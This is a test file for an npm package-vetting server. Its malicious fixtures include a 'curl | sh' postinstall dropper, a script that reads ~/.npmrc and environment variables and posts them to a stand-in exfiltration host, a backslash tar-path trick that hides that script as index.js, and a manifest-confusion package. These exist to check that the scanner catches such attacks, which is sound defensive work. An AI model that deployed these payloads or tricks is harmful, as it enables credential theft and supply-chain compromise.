import { strict as assert } from 'node:assert';
import { after, before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { PackageVerdictResponse, ScanSummary } from '@secure-registry/shared';
import { Header } from 'tar';
import { FakeUpstream } from '../test-support/fake-upstream.js';
import { makeGraph } from '../test-support/graph.js';
import { startTestServer } from '../test-support/harness.js';
import type { TestServer } from '../test-support/harness.js';
import { parsePolicy } from '../rules/policy.js';
import { policyVersion } from '../rules/policy.js';

/** A version whose registry manifest hides what its tarball's package.json declares. */
const LYING = {
  name: 'lying-lib',
  version: '2.0.0',
  files: {
    'index.js': 'module.exports = 1;\n',
    'cli.js': '#!/usr/bin/env node\n',
    'package.json': JSON.stringify({
      name: 'lying-lib',
      version: '2.0.0',
      main: 'index.js',
      dependencies: { 'left-pad': '1.3.0', 'hidden-dep': '9.9.9' },
      bin: { npm: 'cli.js' },
    }),
  },
  // What the registry's packument says about the same version.
  manifest: { main: 'index.js', dependencies: { 'left-pad': '1.3.0' } },
};

describe('the server with the real static analysis and rule set', () => {
  let upstream: FakeUpstream;
  let server: TestServer;

  before(async () => {
    upstream = await new FakeUpstream().start();
    server = await startTestServer({ upstream: upstream.url });
  });
  after(async () => {
    await server.dispose();
    await upstream.close();
  });

  test('a plain library is approved and a curl|sh postinstall is not; reports are stored', async () => {
    const plain = await upstream.add({
      name: 'plain-lib',
      version: '1.2.3',
      files: { 'index.js': 'module.exports = function add(a, b) { return a + b; };\n' },
      manifest: { main: 'index.js', license: 'MIT' },
    });
    const dropper = await upstream.add({
      name: 'plain-dropper',
      version: '1.0.0',
      files: { 'index.js': 'module.exports = 1;\n' },
      manifest: { scripts: { postinstall: 'curl -s http://payload.invalid/x.sh | sh' } },
    });
    const created = await server.json<ScanSummary>('POST', '/api/v1/scans', {
      graph: makeGraph([
        { name: 'plain-lib', version: '1.2.3', integrity: plain.integrity },
        { name: 'plain-dropper', version: '1.0.0', integrity: dropper.integrity },
      ]),
    });
    const result = await server.waitForScan(created.body.id);
    const lib = result.packages.find((p) => p.name === 'plain-lib')!;
    const bad = result.packages.find((p) => p.name === 'plain-dropper')!;
    assert.equal(lib.state, 'approved', JSON.stringify(lib.findings));
    assert.notEqual(bad.state, 'approved');
    assert.ok(bad.findings.length > 0);
    assert.ok(bad.reason);

    const verdict = await server.json<PackageVerdictResponse>('GET', '/api/v1/packages/plain-dropper/1.0.0');
    assert.equal(verdict.body.verdict, bad.state);
    assert.ok(verdict.body.ruleSetVersion);
    assert.equal(typeof verdict.body.reports.static, 'object');
  });

  test('issue 13: `lib\\x/index.js` after a benign index.js is what npm installs, and is analysed', async () => {
    // npm 11 (node-tar, strip 1, Linux) installs the second entry as index.js: a backslash is no
    // separator there. The old reader split on it and analysed the benign file.
    const entry = (path: string, text: string): Buffer => {
      const body = Buffer.from(text);
      const header = Buffer.alloc(512);
      new Header({ path, type: 'File', size: body.length, mode: 0o644 }).encode(header, 0);
      return Buffer.concat([header, body, Buffer.alloc((512 - (body.length % 512)) % 512)]);
    };
    const thief = [
      "const fs = require('fs'); const os = require('os');",
      "const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
      "fetch('https://collect.exfil.invalid/c', { method: 'POST', body: JSON.stringify({ npmrc, env: process.env }) });",
      'module.exports = function add(a, b) { return a + b; };',
    ].join('\n');
    const tarball = gzipSync(
      Buffer.concat([
        entry(
          'package/package.json',
          JSON.stringify({ name: 'split-thief', version: '1.0.0', main: 'index.js' }),
        ),
        entry('package/index.js', 'module.exports = function add(a, b) { return a + b; };\n'),
        entry('lib\\x/index.js', thief),
        Buffer.alloc(1024),
      ]),
    );
    const built = await upstream.add({
      name: 'split-thief',
      version: '1.0.0',
      tarball,
      manifest: { main: 'index.js' },
    });
    const created = await server.json<ScanSummary>('POST', '/api/v1/scans', {
      graph: makeGraph([{ name: 'split-thief', version: '1.0.0', integrity: built.integrity }]),
    });
    const result = await server.waitForScan(created.body.id);
    const pkg = result.packages.find((p) => p.name === 'split-thief')!;
    assert.notEqual(pkg.state, 'approved', JSON.stringify(pkg.findings));
    const verdict = await server.json<PackageVerdictResponse>('GET', '/api/v1/packages/split-thief/1.0.0');
    const report = verdict.body.reports.static as { code: { file: string; kind: string }[] };
    const signals = report.code.filter((c) => c.file === 'index.js').map((c) => c.kind);
    assert.ok(signals.includes('credential-path'), JSON.stringify(report.code));
  });

  test('manifest confusion: a registry manifest that hides dependencies and bin is held, naming both', async () => {
    const built = await upstream.add(LYING);
    const created = await server.json<ScanSummary>('POST', '/api/v1/scans', {
      graph: makeGraph([{ name: LYING.name, version: LYING.version, integrity: built.integrity }]),
    });
    const [pkg] = (await server.waitForScan(created.body.id)).packages;
    const finding = pkg?.findings.find((f) => f.rule === 'manifest-confusion');
    assert.ok(finding, JSON.stringify(pkg?.findings));
    assert.equal(finding.severity, 'high');
    assert.match(finding.message, /dependencies, bin/);
    assert.equal(pkg?.state, 'review');
  });
});

describe("the vetted registry serves the tarball's manifest fields (manifest confusion waived)", () => {
  test('dependencies and bin of an approved version come from its tarball, not the lying packument', async () => {
    const upstream = await new FakeUpstream().start();
    const policy = parsePolicy({
      exceptions: [
        { package: 'lying-lib@2.0.0', rules: ['manifest-confusion'], reason: 'test', expires: '2999-01-01' },
      ],
    });
    const server = await startTestServer({
      upstream: upstream.url,
      policy: { policy, version: policyVersion(policy), source: 'test' },
    });
    try {
      const built = await upstream.add(LYING);
      const created = await server.json<ScanSummary>('POST', '/api/v1/scans', {
        graph: makeGraph([{ name: LYING.name, version: LYING.version, integrity: built.integrity }]),
      });
      const [pkg] = (await server.waitForScan(created.body.id)).packages;
      assert.equal(pkg?.state, 'approved', JSON.stringify(pkg?.findings));
      // eslint-disable-next-line @typescript-eslint/no-explicit-any -- a packument checked by value
      const doc = (await server.json<Record<string, any>>('GET', '/lying-lib')).body;
      assert.deepEqual(doc.versions['2.0.0'].dependencies, { 'left-pad': '1.3.0', 'hidden-dep': '9.9.9' });
      assert.deepEqual(doc.versions['2.0.0'].bin, { npm: 'cli.js' });
    } finally {
      await server.dispose();
      await upstream.close();
    }
  });
});
